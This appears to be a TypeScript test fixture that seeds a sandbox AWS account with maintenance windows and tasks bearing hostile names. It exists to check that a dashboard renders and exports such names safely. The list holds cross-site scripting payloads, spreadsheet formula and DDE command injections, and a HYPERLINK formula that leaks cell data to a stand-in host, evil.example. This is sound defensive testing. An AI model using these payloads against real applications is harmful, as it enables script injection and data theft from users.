import type { SandboxState } from '../types';
import { ScenarioBuilder } from './builders';

// The `clean` account with maintenance windows and tasks whose names and descriptions are hostile: markup and
// script, spreadsheet formulas, control characters and a very long name. AWS's own API refuses such names
// (`^[a-zA-Z0-9_\-.]{3,128}$`), so only a scenario can hold them; they stand for whatever a compromised or
// non-conforming endpoint might send. The dashboard must show them as inert text and export them safely.

/** Every hostile name this scenario uses, one window (and one task relying on the role) each, in us-west-2. */
export const HOSTILE_NAMES = [
  '<img src=x onerror="window.__atlasPwned=1">',
  '</script><script>window.__atlasPwned=2</script>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\'/C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  'bell\u0007escape\u001b[31mred\u202eright-to-left\ttab',
  `very-long-${'name-'.repeat(800)}end`,
] as const;

export const HOSTILE_REGION = 'us-west-2';

export function buildHostileNamesScenario(nowMs: number): SandboxState {
  const builder = new ScenarioBuilder('hostile-names', nowMs);
  builder.addServiceLinkedRole(1400, { daysAgo: 45, region: 'us-east-1' });
  builder.addCustomWindowRole(300);
  for (const [index, name] of HOSTILE_NAMES.entries()) {
    const window = builder.addWindow(HOSTILE_REGION, {
      name,
      description: name,
      schedule: 'cron(0 3 ? * SUN *)',
      duration: 2,
      cutoff: 0,
      createdDaysAgo: 30 + index,
    });
    // No ServiceRoleArn: the task relies on the service-linked role, so it is a blocker the wizard lists.
    builder.addTask(window, { type: 'RUN_COMMAND', taskArn: 'AWS-RunShellScript', name, description: name });
  }
  return builder.state;
}
